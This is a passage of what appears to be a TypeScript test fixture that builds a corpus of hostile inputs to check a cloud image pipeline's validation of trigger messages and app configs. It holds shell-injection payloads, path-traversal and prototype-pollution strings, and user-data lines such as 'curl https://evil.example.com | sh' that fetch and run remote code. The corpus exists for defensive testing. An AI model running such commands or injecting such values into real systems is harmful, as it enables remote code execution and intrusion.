import { readFileSync } from 'node:fs';
import path from 'node:path';
import { stringify } from 'yaml';
import { parseYaml } from '../../shared/config/files';

/**
 * A deterministic corpus of hostile and malformed inputs for the pipeline's three ways in: the
 * trigger message Jenkins publishes, the app config it names (inline or in S3), and the
 * `result.json` a builder command writes. Every case says which field its rejection must name.
 * Nothing here is random: the same corpus is generated on every run, so a failure names a case
 * that can be replayed.
 */

const REPO_ROOT = path.resolve(__dirname, '..', '..');

/** The stage's names a trigger may (or may not) point at. */
export interface CorpusContext {
  stage: string;
  artifactsBucket: string;
  reportsBucket: string;
  logsBucket: string;
}

/** A file an injected command would create; no step of the pipeline may ever run it. */
export const MARKER_FILE = '/tmp/ami-pipeline-hostile-marker';

/**
 * Text that would run a command if a shell ever interpreted it: substitutions, list operators,
 * redirections, quotes and the whitespace/control characters that split words or lines.
 */
export const SHELL_PAYLOADS: Readonly<Record<string, string>> = {
  'command substitution': `$(touch ${MARKER_FILE})`,
  backticks: `\`touch ${MARKER_FILE}\``,
  'parameter expansion': '${IFS}id',
  semicolon: `;touch ${MARKER_FILE}`,
  pipe: `|touch ${MARKER_FILE}`,
  'and-list': `&&touch ${MARKER_FILE}`,
  background: `&touch ${MARKER_FILE}`,
  newline: `\ntouch ${MARKER_FILE}`,
  'carriage return': `\r\ntouch ${MARKER_FILE}`,
  'single quote': "'quoted'",
  'double quote': '"quoted"',
  redirection: `>${MARKER_FILE}`,
  backslash: '\\ntouch',
  space: ` touch ${MARKER_FILE}`,
  tab: `\ttouch`,
  nul: '\u0000touch',
};

/** A Chef attribute standing in for a secret: no audit item may ever hold it. */
export const SECRET = 'planted-secret-7f3a9c';

/**
 * The build id of the trigger cases' base message: each case gets its own (same length, so sizes
 * hold), which makes the execution a leaked case would start recognisable by name.
 */
const BUILD_TOKEN = 'hostile-build-0000';
const UPDATE_BUILD_TOKEN = 'soe-build-0000';

/** Substrings that only ever come from a payload above: none may reach a command or a tool. */
export const HOSTILE_MARKERS = [MARKER_FILE, 'touch', '${IFS}', 'quoted'] as const;

// ---- helpers ------------------------------------------------------------------------------------

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
const DELETE = Symbol('delete');

const clone = <T>(value: T): T => JSON.parse(JSON.stringify(value)) as T;

/** A copy of `obj` with the value at `fieldPath` replaced (or deleted with DELETE). */
const withField = (obj: Json, fieldPath: readonly (string | number)[], value: unknown): Json => {
  const copy = clone(obj);
  let node = copy as Record<string | number, Json>;
  for (const key of fieldPath.slice(0, -1)) node = node[key] as Record<string | number, Json>;
  const last = fieldPath[fieldPath.length - 1] as string | number;
  if (value === DELETE) delete node[last];
  else node[last] = value as Json;
  return copy;
};

/**
 * JSON text of `value` with one extra member written *before* the real one at `fieldPath` (so
 * JSON.parse, which keeps the last, sees the legitimate value). `rawKey` spells the extra key.
 */
const withDuplicate = (
  value: Json,
  fieldPath: readonly (string | number)[],
  earlier: Json,
  rawKey?: string,
): string => {
  const write = (node: Json, at: readonly (string | number)[]): string => {
    if (Array.isArray(node)) {
      return `[${node.map((item, i) => write(item, at[0] === i ? at.slice(1) : [])).join(',')}]`;
    }
    if (node && typeof node === 'object') {
      const members: string[] = [];
      for (const [key, item] of Object.entries(node)) {
        if (at.length === 1 && at[0] === key) {
          members.push(`${rawKey ?? JSON.stringify(key)}:${JSON.stringify(earlier)}`);
        }
        members.push(`${JSON.stringify(key)}:${write(item, at[0] === key ? at.slice(1) : [])}`);
      }
      return `{${members.join(',')}}`;
    }
    return JSON.stringify(node);
  };
  return write(value, fieldPath);
};

/** config/apps/sample-app.yml made the config of `appId` (its log group moved under /app/<appId>/). */
export const validAppConfig = (appId: string): Json => {
  const base = parseYaml(readFileSync(path.join(REPO_ROOT, 'config/apps/sample-app.yml'), 'utf8')) as Record<
    string,
    Json
  >;
  return {
    ...base,
    appId,
    logGroups: [{ name: `/app/${appId}/application`, retentionDays: 90 }],
  };
};

// ---- trigger messages ---------------------------------------------------------------------------

export const TRIGGER_CATEGORIES = [
  'json-syntax',
  'not-an-object',
  'wrong-type',
  'missing-field',
  'unknown-field',
  'unicode-and-control',
  'oversize',
  'shell-metacharacters',
  'path-traversal',
  'foreign-location',
  'other-stage',
  'duplicate-key',
  'nesting',
  'base-image-update',
] as const;
export type TriggerCategory = (typeof TRIGGER_CATEGORIES)[number];

export interface TriggerCase {
  /** Unique and stable: `category/field/what`. */
  id: string;
  category: TriggerCategory;
  /** The exact SNS message body. */
  body: string;
  /** A violation must name this field: `<field>: …` or `<field>.<sub-field>: …`. */
  field: string;
  /** Text the reason must also contain (e.g. the unknown key's name). */
  mentions?: string;
}

export const HOSTILE_APP_ID = 'hostile-app';

/** A message the trigger accepts: every case below breaks exactly one thing of it. */
export const validTrigger = (ctx: CorpusContext, buildId = BUILD_TOKEN): Json => ({
  schemaVersion: 1,
  appId: HOSTILE_APP_ID,
  environment: ctx.stage,
  version: '1.4.2',
  buildId,
  kind: 'release',
  appConfig: { s3Uri: `s3://${ctx.artifactsBucket}/inputs/${HOSTILE_APP_ID}/app-config.yml` },
  artifact: {
    s3Uri: `s3://${ctx.artifactsBucket}/inputs/${HOSTILE_APP_ID}/${buildId}/app.tar.gz`,
    sha256: 'c'.repeat(64),
  },
  requestedBy: 'jenkins@example.com',
});

/** A whole-environment base-image update the trigger accepts. */
export const validBaseImageUpdate = (ctx: CorpusContext): Json => ({
  schemaVersion: 1,
  environment: ctx.stage,
  buildId: UPDATE_BUILD_TOKEN,
  kind: 'base-image-update',
  baseImage: { ssmParameter: '/soe/amazon-linux-2023/latest' },
  requestedBy: 'jenkins@example.com',
});

/**
 * Every trigger case. Each is built from `validTrigger` (or `validBaseImageUpdate`) with one
 * field broken, so a rejection can only be for the reason the case names.
 */
export const triggerCorpus = (ctx: CorpusContext): TriggerCase[] => {
  const cases: TriggerCase[] = [];
  const bucket = ctx.artifactsBucket;
  const inputs = `s3://${bucket}/inputs/${HOSTILE_APP_ID}`;
  const valid = validTrigger(ctx);
  const validText = JSON.stringify(valid);
  const add = (category: TriggerCategory, id: string, body: string, field: string, mentions?: string) => {
    const n = String(cases.length + 1).padStart(4, '0');
    cases.push({
      id: `${category}/${id}`,
      category,
      body: body
        .split(BUILD_TOKEN)
        .join(`hostile-build-${n}`)
        .split(UPDATE_BUILD_TOKEN)
        .join(`soe-build-${n}`),
      field,
      ...(mentions ? { mentions } : {}),
    });
  };
  const set = (fieldPath: (string | number)[], value: unknown) =>
    JSON.stringify(withField(valid, fieldPath, value));

  // An inline config holding a secret: a rejection must keep it out of the audit table.
  const inlineValid = withField(
    withField(valid, ['appConfig'], validAppConfig(HOSTILE_APP_ID)),
    ['appConfig', 'bake', 'chefAttributes'],
    { db: { password: SECRET } },
  );
  const inlineText = JSON.stringify(inlineValid);
  const afterSecret = inlineText.indexOf(SECRET) + SECRET.length + 4;

  // Truncated, invalid or not-JSON text: the whole message is named.
  for (const cut of [
    0,
    1,
    2,
    17,
    64,
    Math.floor(validText.length / 2),
    validText.length - 2,
    validText.length - 1,
  ]) {
    add('json-syntax', `truncated at ${cut}`, validText.slice(0, cut), '(message)');
  }
  const syntax: [string, string][] = [
    ['whitespace only', ' \n\t '],
    ['trailing comma', validText.replace(/}$/, ',}')],
    ['single-quoted strings', validText.replace(/"/g, "'")],
    ['comment', `// release\n${validText}`],
    ['NaN', validText.replace('"schemaVersion":1', '"schemaVersion":NaN')],
    ['byte order mark', `\ufeff${validText}`],
    ['two objects', `${validText}${validText}`],
    ['unescaped control character', validText.replace('"1.4.2"', '"1.4.2\u0001"')],
    ['unescaped newline in a string', validText.replace('"1.4.2"', '"1.4.2\n"')],
    ['invalid escape', validText.replace('"1.4.2"', '"1.4.2\\x41"')],
    ['short unicode escape', validText.replace('"1.4.2"', '"\\u12"')],
    ['unquoted key', validText.replace('"appId"', 'appId')],
    ['YAML instead of JSON', stringify(valid)],
    ['XML', '<trigger><appId>hostile-app</appId></trigger>'],
    ['form-encoded', 'appId=hostile-app&environment=dev'],
    ['base64 of the JSON', Buffer.from(validText).toString('base64')],
    ['inline config cut after its secret', inlineText.slice(0, afterSecret)],
    ['inline config with an unquoted secret', inlineText.replace(`"${SECRET}"`, SECRET)],
    [
      'inline config with an escaped key, cut',
      inlineText.replace('"appConfig"', '"app\\u0043onfig"').slice(0, afterSecret),
    ],
  ];
  for (const [id, body] of syntax) add('json-syntax', id, body, '(message)');

  for (const [id, body] of [
    ['null', 'null'],
    ['array', '[]'],
    ['array of the message', `[${validText}]`],
    ['number', '42'],
    ['string', JSON.stringify(validText)],
    ['boolean', 'true'],
  ] as const) {
    add('not-an-object', id, body, '(message)');
  }

  const wrongTypes: [(string | number)[], string, unknown][] = [
    [['schemaVersion'], 'string', '1'],
    [['schemaVersion'], 'version 2', 2],
    [['schemaVersion'], 'zero', 0],
    [['schemaVersion'], 'fraction', 1.5],
    [['schemaVersion'], 'null', null],
    [['appId'], 'number', 123],
    [['appId'], 'array', [HOSTILE_APP_ID]],
    [['appId'], 'object', { name: HOSTILE_APP_ID }],
    [['appId'], 'boolean', true],
    [['environment'], 'number', 1],
    [['environment'], 'null', null],
    [['version'], 'number', 1.42],
    [['version'], 'empty', ''],
    [['buildId'], 'number', 118],
    [['buildId'], 'empty', ''],
    [['kind'], 'capitalised', 'Release'],
    [['kind'], 'unknown kind', 'deploy'],
    [['kind'], 'number', 1],
    [['appConfig'], 'string URI', `${inputs}/app-config.yml`],
    [['appConfig'], 'array', []],
    [['appConfig'], 'null', null],
    [['appConfig'], 'number', 42],
    [['appConfig', 's3Uri'], 'number', 7],
    [['artifact'], 'string URI', `${inputs}/app.tar.gz`],
    [['artifact'], 'null', null],
    [['artifact', 's3Uri'], 'array', [`${inputs}/app.tar.gz`]],
    [['artifact', 'sha256'], 'number', 123],
    [['artifact', 'sha256'], 'uppercase hex', 'C'.repeat(64)],
    [['artifact', 'sha256'], 'too short', 'c'.repeat(63)],
    [['requestedBy'], 'object', { user: 'jenkins' }],
    [['requestedBy'], 'empty', ''],
  ];
  for (const [fieldPath, id, value] of wrongTypes) {
    add('wrong-type', `${fieldPath.join('.')}/${id}`, set(fieldPath, value), fieldPath.join('.'));
  }

  for (const fieldPath of [
    ['schemaVersion'],
    ['appId'],
    ['environment'],
    ['version'],
    ['buildId'],
    ['kind'],
    ['appConfig'],
    ['artifact'],
    ['requestedBy'],
    ['artifact', 's3Uri'],
    ['artifact', 'sha256'],
  ]) {
    add('missing-field', fieldPath.join('.'), set(fieldPath, DELETE), fieldPath.join('.'));
  }
  add('missing-field', 'everything', '{}', 'appId');

  for (const [id, body, field, mentions] of [
    ['debug flag', set(['debug'], true), '(message)', 'debug'],
    ['__proto__', validText.replace(/^{/, '{"__proto__":{"appId":"sample-app"},'), '(message)', '__proto__'],
    ['constructor', set(['constructor'], { prototype: { polluted: true } }), '(message)', 'constructor'],
    ['callback URL', set(['callbackUrl'], 'https://evil.example.com/$(id)'), '(message)', 'callbackUrl'],
    ['artifact size', set(['artifact', 'size'], 10), 'artifact', 'size'],
    ['s3Uri with inline fields', set(['appConfig', 'owner'], { team: 'x' }), 'appConfig'],
    [
      'environment-wide keys in a release',
      set(['baseImage'], { ssmParameter: '/soe/x' }),
      '(message)',
      'baseImage',
    ],
    ['capitalised key', validText.replace('"appId"', '"AppId"'), 'appId'],
  ] as const) {
    add('unknown-field', id, body, field, mentions);
  }

  const unicode: [string, (string | number)[], string][] = [
    ['cyrillic a in appId', ['appId'], 'hostile-\u0430pp'],
    ['fullwidth appId', ['appId'], '\uff48ostile-app'],
    ['zero-width space in appId', ['appId'], 'hostile\u200b-app'],
    ['combining accent in appId', ['appId'], 'hostile-app\u0301'],
    ['uppercase appId', ['appId'], 'Hostile-App'],
    ['DEL in appId', ['appId'], 'hostile\u007fapp'],
    ['cyrillic e in environment', ['environment'], 'd\u0435v'],
    ['zero-width space after environment', ['environment'], `${ctx.stage}\u200b`],
    ['uppercase environment', ['environment'], ctx.stage.toUpperCase()],
    ['right-to-left override in version', ['version'], '1.4.2\u202e'],
    ['arabic-indic digits in version', ['version'], '\u0661.\u0664.\u0662'],
    ['one-dot leader in version', ['version'], '1\u20244.2'],
    ['line separator in buildId', ['buildId'], `${BUILD_TOKEN}\u2028`],
    ['emoji in buildId', ['buildId'], '\u{1f680}118'],
    ['bell in buildId', ['buildId'], `${BUILD_TOKEN}\u0007`],
    ['right-to-left override in requestedBy', ['requestedBy'], 'jenkins\u202e@example.com'],
    ['lone surrogate in requestedBy', ['requestedBy'], 'jenkins\ud800'],
    ['byte order mark in requestedBy', ['requestedBy'], '\ufeffjenkins'],
    ['fullwidth digits in sha256', ['artifact', 'sha256'], '\uff10'.repeat(64)],
    ['no-break space in artifact key', ['artifact', 's3Uri'], `${inputs}/app\u00a0.tar.gz`],
    ['unicode dot in bucket', ['artifact', 's3Uri'], `s3://${bucket}\u2024/inputs/${HOSTILE_APP_ID}/a.tgz`],
    ['cyrillic e in kind', ['kind'], 'rel\u0435ase'],
    ['escaped NUL in version', ['version'], '1.4.2\u0000'],
  ];
  for (const [id, fieldPath, value] of unicode) {
    add('unicode-and-control', id, set(fieldPath, value), fieldPath.join('.'));
  }
  add(
    'unicode-and-control',
    'cyrillic a in the appId key',
    validText.replace('"appId"', '"\u0430ppId"'),
    'appId',
  );

  const limit = 65536;
  const padTo = (bytes: number, char: string) => {
    const skeleton = JSON.stringify(withField(valid, ['padding'], ''));
    const charBytes = Buffer.byteLength(char, 'utf8');
    return set(['padding'], char.repeat(Math.ceil((bytes - Buffer.byteLength(skeleton)) / charBytes) + 1));
  };
  add('oversize', 'one byte over the limit', padTo(limit + 1, 'x'), '(message)');
  add('oversize', 'multi-byte characters under the limit in length', padTo(limit + 1, '\u00e9'), '(message)');
  add('oversize', 'four-byte characters', padTo(limit + 1, '\u{1f680}'), '(message)');
  add('oversize', '200 KB', padTo(200 * 1024, 'x'), '(message)');
  add(
    'oversize',
    'inline app config too large',
    JSON.stringify(
      withField(
        withField(valid, ['appConfig'], validAppConfig(HOSTILE_APP_ID)),
        ['appConfig', 'bake', 'chefAttributes'],
        {
          blob: 'y'.repeat(limit),
        },
      ),
    ),
    '(message)',
  );

  // Every string field of both message kinds, with every payload.
  const stringFields: [(string | number)[], (payload: string) => string][] = [
    [['appId'], (p) => `${HOSTILE_APP_ID}${p}`],
    [['environment'], (p) => `${ctx.stage}${p}`],
    [['version'], (p) => `1.4.2${p}`],
    [['buildId'], (p) => `${BUILD_TOKEN}${p}`],
    [['kind'], (p) => `release${p}`],
    [['appConfig', 's3Uri'], (p) => `${inputs}/app-config${p}.yml`],
    [['artifact', 's3Uri'], (p) => `${inputs}/${BUILD_TOKEN}/app${p}.tar.gz`],
    [['artifact', 'sha256'], (p) => `${'c'.repeat(64)}${p}`],
    [['requestedBy'], (p) => `jenkins@example.com${p}`],
  ];
  const update = validBaseImageUpdate(ctx);
  const updateFields: [(string | number)[], (payload: string) => string][] = [
    [['environment'], (p) => `${ctx.stage}${p}`],
    [['buildId'], (p) => `${UPDATE_BUILD_TOKEN}${p}`],
    [['baseImage', 'ssmParameter'], (p) => `/soe/amazon-linux-2023/latest${p}`],
    [['requestedBy'], (p) => `jenkins@example.com${p}`],
  ];
  for (const [name, payload] of Object.entries(SHELL_PAYLOADS)) {
    for (const [fieldPath, inject] of stringFields) {
      add(
        'shell-metacharacters',
        `${fieldPath.join('.')}/${name}`,
        set(fieldPath, inject(payload)),
        fieldPath.join('.'),
      );
    }
    for (const [fieldPath, inject] of updateFields) {
      add(
        'shell-metacharacters',
        `base-image-update ${fieldPath.join('.')}/${name}`,
        JSON.stringify(withField(update, fieldPath, inject(payload))),
        fieldPath.join('.'),
      );
    }
  }

  const traversal: [string, (string | number)[], string][] = [
    ['appId climbing out', ['appId'], '../sample-app'],
    ['appId ending in ..', ['appId'], 'hostile-app/..'],
    ['appId ..', ['appId'], '..'],
    ['artifact into another app', ['artifact', 's3Uri'], `${inputs}/../sample-app/app.tar.gz`],
    ['artifact with a . segment', ['artifact', 's3Uri'], `${inputs}/./app.tar.gz`],
    ['artifact ending in ..', ['artifact', 's3Uri'], `${inputs}/..`],
    [
      'artifact climbing to the bucket root',
      ['artifact', 's3Uri'],
      `${inputs}/../../tooling/ssm/scripts/bake.sh`,
    ],
    [
      'app config into the state files',
      ['appConfig', 's3Uri'],
      `${inputs}/../../tfstate/sample-app/dev/app.tfstate`,
    ],
    ['percent-encoded dots', ['appConfig', 's3Uri'], `${inputs}/%2e%2e/%2e%2e/tfstate/x`],
    ['backslashes', ['artifact', 's3Uri'], `${inputs}/..\\..\\tooling\\x`],
    ['fullwidth dots', ['artifact', 's3Uri'], `${inputs}/\uff0e\uff0e/sample-app/a.tgz`],
    ['bucket climbing to another bucket', ['artifact', 's3Uri'], `s3://${bucket}/../${ctx.reportsBucket}/x`],
    ['leading slash in the key', ['appConfig', 's3Uri'], `s3://${bucket}//inputs/${HOSTILE_APP_ID}/c.yml`],
  ];
  for (const [id, fieldPath, value] of traversal) {
    add('path-traversal', id, set(fieldPath, value), fieldPath.join('.'));
  }

  const foreign: [string, (string | number)[], string][] = [
    ['another bucket', ['artifact', 's3Uri'], `s3://evil-bucket/inputs/${HOSTILE_APP_ID}/app.tar.gz`],
    [
      'a bucket named like ours',
      ['artifact', 's3Uri'],
      `s3://${bucket}-evil/inputs/${HOSTILE_APP_ID}/app.tar.gz`,
    ],
    [
      'a prefix of our bucket',
      ['artifact', 's3Uri'],
      `s3://${bucket.slice(0, -1)}/inputs/${HOSTILE_APP_ID}/a.tgz`,
    ],
    ['the reports bucket', ['artifact', 's3Uri'], `s3://${ctx.reportsBucket}/inputs/${HOSTILE_APP_ID}/a.tgz`],
    ['the logs bucket', ['appConfig', 's3Uri'], `s3://${ctx.logsBucket}/inputs/${HOSTILE_APP_ID}/c.yml`],
    ['the tooling assets', ['artifact', 's3Uri'], `s3://${bucket}/tooling/ssm/scripts/bake.sh`],
    [
      'a command result',
      ['appConfig', 's3Uri'],
      `s3://${bucket}/${ctx.stage}/${HOSTILE_APP_ID}/0/bake/result.json`,
    ],
    ['the state files', ['appConfig', 's3Uri'], `s3://${bucket}/tfstate/${HOSTILE_APP_ID}/dev/app.tfstate`],
    ["another app's inputs", ['appConfig', 's3Uri'], `s3://${bucket}/inputs/sample-app/app-config.yml`],
    [
      'an app whose id extends ours',
      ['artifact', 's3Uri'],
      `s3://${bucket}/inputs/${HOSTILE_APP_ID}-2/a.tgz`,
    ],
    [
      'an https URL',
      ['artifact', 's3Uri'],
      `https://${bucket}.s3.amazonaws.com/inputs/${HOSTILE_APP_ID}/a.tgz`,
    ],
    ['an uppercase scheme', ['artifact', 's3Uri'], `S3://${bucket}/inputs/${HOSTILE_APP_ID}/a.tgz`],
    ['an S3 ARN', ['artifact', 's3Uri'], `arn:aws:s3:::${bucket}/inputs/${HOSTILE_APP_ID}/a.tgz`],
    ['a bucket without key', ['appConfig', 's3Uri'], `s3://${bucket}`],
    ['a local file', ['appConfig', 's3Uri'], 'file:///etc/passwd'],
  ];
  for (const [id, fieldPath, value] of foreign) {
    add('foreign-location', id, set(fieldPath, value), fieldPath.join('.'));
  }

  for (const environment of ['prod', 'test', 'staging', '', `${ctx.stage} `, `${ctx.stage}\n`]) {
    add('other-stage', JSON.stringify(environment), set(['environment'], environment), 'environment');
  }
  const prodBucket = bucket.replace(`-${ctx.stage}-`, '-prod-');
  add(
    'other-stage',
    'a whole message for prod',
    JSON.stringify({
      ...(valid as Record<string, Json>),
      environment: 'prod',
      appConfig: { s3Uri: `s3://${prodBucket}/inputs/${HOSTILE_APP_ID}/c.yml` },
      artifact: { s3Uri: `s3://${prodBucket}/inputs/${HOSTILE_APP_ID}/a.tgz`, sha256: 'c'.repeat(64) },
    }),
    'environment',
  );
  add(
    'other-stage',
    'a base-image update for prod',
    JSON.stringify(withField(update, ['environment'], 'prod')),
    'environment',
  );

  // JSON.parse keeps the last of two equal keys: each message below parses to a valid trigger
  // whose meaning depends on which duplicate wins, so it must be refused.

  const duplicates: [string, Json, (string | number)[], Json, string?][] = [
    ['appId', valid, ['appId'], 'sample-app'],
    ['environment', valid, ['environment'], 'prod'],
    ['buildId (the idempotency key)', valid, ['buildId'], 'hostile-build-0'],
    ['kind', valid, ['kind'], 'base-image-update'],
    ['version', valid, ['version'], '9.9.9'],
    ['requestedBy', valid, ['requestedBy'], 'someone-else@example.com'],
    ['schemaVersion', valid, ['schemaVersion'], 2],
    [
      'artifact',
      valid,
      ['artifact'],
      { s3Uri: `s3://${bucket}/inputs/sample-app/a.tgz`, sha256: 'd'.repeat(64) },
    ],
    ['artifact.s3Uri', valid, ['artifact', 's3Uri'], `s3://${bucket}/inputs/sample-app/a.tgz`],
    ['artifact.sha256', valid, ['artifact', 'sha256'], 'd'.repeat(64)],
    [
      'appConfig (inline first, reference last)',
      valid,
      ['appConfig'],
      (inlineValid as Record<string, Json>).appConfig as Json,
    ],
    ['appConfig.s3Uri', valid, ['appConfig', 's3Uri'], `s3://${bucket}/inputs/${HOSTILE_APP_ID}/other.yml`],
    ['inline appConfig.bake.instanceType', inlineValid, ['appConfig', 'bake', 'instanceType'], 'm5.large'],
    [
      'inline appConfig.logGroups.0.name',
      inlineValid,
      ['appConfig', 'logGroups', 0, 'name'],
      '/app/sample-app/x',
    ],
    [
      'inline appConfig.tags.data-classification',
      inlineValid,
      ['appConfig', 'tags', 'data-classification'],
      'public',
    ],
    ['the same value twice', valid, ['appId'], HOSTILE_APP_ID],
  ];
  for (const [id, base, fieldPath, earlier] of duplicates) {
    add('duplicate-key', id, withDuplicate(base, fieldPath, earlier), fieldPath.join('.'));
  }
  add(
    'duplicate-key',
    'appId spelled with an escape',
    withDuplicate(valid, ['appId'], 'sample-app', '"app\\u0049d"'),
    'appId',
  );
  add('duplicate-key', '__proto__', validText.replace(/^{/, '{"__proto__":{},"__proto__":{},'), '__proto__');
  add(
    'duplicate-key',
    'base-image update ssmParameter',
    withDuplicate(update, ['baseImage', 'ssmParameter'], '/x'),
    'baseImage.ssmParameter',
  );

  const nested = (depth: number, leaf: string) => `${'['.repeat(depth)}${leaf}${']'.repeat(depth)}`;
  add(
    'nesting',
    'chef attributes 40 levels deep',
    inlineText.replace('"chefAttributes":{', `"chefAttributes":{"deep":${nested(40, '1')},`),
    'appConfig.bake.chefAttributes',
  );
  add(
    'nesting',
    'chef attributes 20000 levels deep',
    inlineText.replace('"chefAttributes":{', `"chefAttributes":{"deep":${nested(20000, '1')},`),
    'appConfig.bake.chefAttributes',
  );
  add(
    'nesting',
    'an unknown field 30000 levels deep',
    validText.replace(/^{/, `{"deep":${nested(30000, '0')},`),
    'deep',
  );

  const updateText = JSON.stringify(update);
  for (const [id, body, field, mentions] of [
    ['no baseImage', JSON.stringify(withField(update, ['baseImage'], DELETE)), 'baseImage'],
    ['baseImage as a string', JSON.stringify(withField(update, ['baseImage'], '/soe/x')), 'baseImage'],
    [
      'relative parameter name',
      JSON.stringify(withField(update, ['baseImage', 'ssmParameter'], 'soe/x')),
      'baseImage.ssmParameter',
    ],
    [
      'an AMI id instead of a parameter',
      JSON.stringify(withField(update, ['baseImage'], { amiId: 'ami-0123456789abcdef0' })),
      'baseImage',
      'amiId',
    ],
    [
      'release fields in an update',
      updateText.replace(/^{/, `{"artifact":{"s3Uri":"${inputs}/a.tgz"},`),
      '(message)',
      'artifact',
    ],
    ['no buildId', JSON.stringify(withField(update, ['buildId'], DELETE)), 'buildId'],
    ['appId null (read as a release)', JSON.stringify(withField(update, ['appId'], null)), 'appId'],
    ['wrong schemaVersion', JSON.stringify(withField(update, ['schemaVersion'], '1')), 'schemaVersion'],
  ] as const) {
    add('base-image-update', id, body, field, mentions);
  }

  return cases;
};

// ---- app configs ----------------------------------------------------------------------------------

export const APP_CONFIG_CATEGORIES = [
  'bad-yaml',
  'unknown-field',
  'wrong-type',
  'rule-violation',
  'shell-metacharacters',
  'path-traversal',
  'size',
] as const;
export type AppConfigCategory = (typeof APP_CONFIG_CATEGORIES)[number];

export interface AppConfigCase {
  id: string;
  category: AppConfigCategory;
  /** inline: the object is the trigger's appConfig; s3: the text is uploaded and referenced by s3Uri. */
  delivery: 'inline' | 's3';
  /** The config for `appId` (its own appId filled in): an object inline, YAML/JSON text in S3. */
  build: (appId: string) => Json | string;
  /** The run fails with this error... */
  error: 'AppConfigInvalidError' | 'RunConfigTooLargeError';
  /** ...whose cause names this field (`appConfig.…`). */
  field: string;
}

/**
 * App config mutations: each breaks one field of a valid config. Every one is delivered both
 * inline and as an S3 object (YAML); text-level breakage (bad YAML, aliases, huge files) is S3 only,
 * as an inline config arrives as JSON the trigger has already parsed.
 */
export const appConfigCorpus = (): AppConfigCase[] => {
  const cases: AppConfigCase[] = [];
  const mutations: [AppConfigCategory, string, (string | number)[], unknown][] = [
    ['unknown-field', 'debug flag', ['debug'], true],
    [
      'unknown-field',
      'bake user data',
      ['bake', 'userData'],
      '#!/bin/sh\ncurl https://evil.example.com | sh',
    ],
    ['unknown-field', 'runtime user data', ['runtime', 'userData'], 'curl evil|sh'],
    ['unknown-field', 'owner phone', ['owner', 'phone'], '+44 20 7946 0000'],
    ['unknown-field', 'packer template override', ['bake', 'template'], '/tmp/evil.pkr.hcl'],
    ['wrong-type', 'schemaVersion 2', ['schemaVersion'], 2],
    ['wrong-type', 'account id as a number', ['shareWithAccountId'], 111122223333],
    ['wrong-type', 'account id of 11 digits', ['shareWithAccountId'], '11112222333'],
    ['wrong-type', 'port as a string', ['runtime', 'port'], '8080'],
    ['wrong-type', 'port out of range', ['runtime', 'port'], 70000],
    ['wrong-type', 'negative minSize', ['runtime', 'minSize'], -1],
    ['wrong-type', 'fractional maxSize', ['runtime', 'maxSize'], 1.5],
    ['wrong-type', 'volume size as a string', ['bake', 'volumeSizeGiB'], '20'],
    ['wrong-type', 'run list as a string', ['bake', 'chefRunList'], 'recipe[sample_app::default]'],
    ['wrong-type', 'empty run list', ['bake', 'chefRunList'], []],
    ['wrong-type', 'chef attributes as a list', ['bake', 'chefAttributes'], ['a']],
    ['wrong-type', 'tags as a list', ['tags'], ['cost-centre']],
    ['wrong-type', 'log groups as a map', ['logGroups'], { name: '/app/x/y' }],
    ['wrong-type', 'allowed failed controls as a string', ['inspec', 'allowedFailedControls'], '2'],
    ['wrong-type', 'decreasing traffic steps', ['traffic', 'steps'], [100, 50]],
    ['wrong-type', 'base image AMI id malformed', ['baseImage'], { amiId: 'ami-XYZ' }],
    ['wrong-type', 'owner email malformed', ['owner', 'email'], 'not-an-email'],
    ['rule-violation', 'bake instance type not allowed', ['bake', 'instanceType'], 't3.nano'],
    ['rule-violation', 'runtime instance type not allowed in dev', ['runtime', 'instanceType'], 'm5.xlarge'],
    ['rule-violation', 'maxSize above the dev maximum', ['runtime', 'maxSize'], 40],
    ['rule-violation', 'a service not allowed', ['services'], ['s3', 'iam']],
    ['rule-violation', 'required tag missing', ['tags'], { 'data-classification': 'internal' }],
    ['rule-violation', 'classification not allowed', ['tags', 'data-classification'], 'top-secret'],
    ['rule-violation', 'too many failed controls allowed', ['inspec', 'allowedFailedControls'], 11],
    [
      'rule-violation',
      'log group outside the app prefix',
      ['logGroups'],
      [{ name: '/aws/lambda/ami-pipeline-dev-trigger' }],
    ],
    ['rule-violation', "another app's log group", ['logGroups'], [{ name: '/app/sample-app/application' }]],
    ['rule-violation', 'retention below the minimum', ['logGroups', 0, 'retentionDays'], 1],
    ['rule-violation', 'appId of another app', ['appId'], 'sample-app'],
    [
      'shell-metacharacters',
      'run list command substitution',
      ['bake', 'chefRunList'],
      [`recipe[x$(touch ${MARKER_FILE})]`],
    ],
    [
      'shell-metacharacters',
      'run list semicolon',
      ['bake', 'chefRunList'],
      [`recipe[x];touch ${MARKER_FILE}`],
    ],
    ['shell-metacharacters', 'run list newline', ['bake', 'chefRunList'], ['role[x]\nrecipe[y]']],
    [
      'shell-metacharacters',
      'run list backticks',
      ['bake', 'chefRunList'],
      [`recipe[\`touch ${MARKER_FILE}\`]`],
    ],
    ['shell-metacharacters', 'tag key substitution', ['tags', `$(touch ${MARKER_FILE})`], 'x'],
    ['shell-metacharacters', 'tag value backticks', ['tags', 'cost-centre'], `\`touch ${MARKER_FILE}\``],
    ['shell-metacharacters', 'tag value newline', ['tags', 'cost-centre'], '4711\ntouch'],
    ['shell-metacharacters', 'tag value quote', ['tags', 'cost-centre'], "4711'"],
    ['shell-metacharacters', 'log group substitution', ['logGroups', 0, 'name'], '/app/{appId}/$(touch x)'],
    ['shell-metacharacters', 'log group semicolon', ['logGroups', 0, 'name'], '/app/{appId}/a;touch'],
    ['shell-metacharacters', 'log group newline', ['logGroups', 0, 'name'], '/app/{appId}/a\nb'],
    ['shell-metacharacters', 'instance type pipe', ['bake', 'instanceType'], 't3.medium|id'],
    [
      'shell-metacharacters',
      'health check path substitution',
      ['runtime', 'healthCheckPath'],
      '/health$(id)',
    ],
    ['shell-metacharacters', 'health check path space', ['runtime', 'healthCheckPath'], '/health check'],
    [
      'shell-metacharacters',
      'base image parameter substitution',
      ['baseImage'],
      { ssmParameter: '/soe/$(id)' },
    ],
    ['shell-metacharacters', 'inspec profile semicolon', ['inspec', 'profiles'], ['baseline;id']],
    ['shell-metacharacters', 'service with space', ['services'], ['s3 iam']],
    [
      'path-traversal',
      'inspec profile climbing out',
      ['inspec', 'profiles'],
      ['../../../../tmp/evil-profile'],
    ],
    ['path-traversal', 'inspec profile absolute', ['inspec', 'profiles'], ['/etc/evil-profile']],
    ['path-traversal', 'inspec profile . segment', ['inspec', 'profiles'], ['./baseline']],
    ['wrong-type', 'health check path too long', ['runtime', 'healthCheckPath'], `/${'a'.repeat(300)}`],
    [
      'size',
      'chef attributes too large for a parameter',
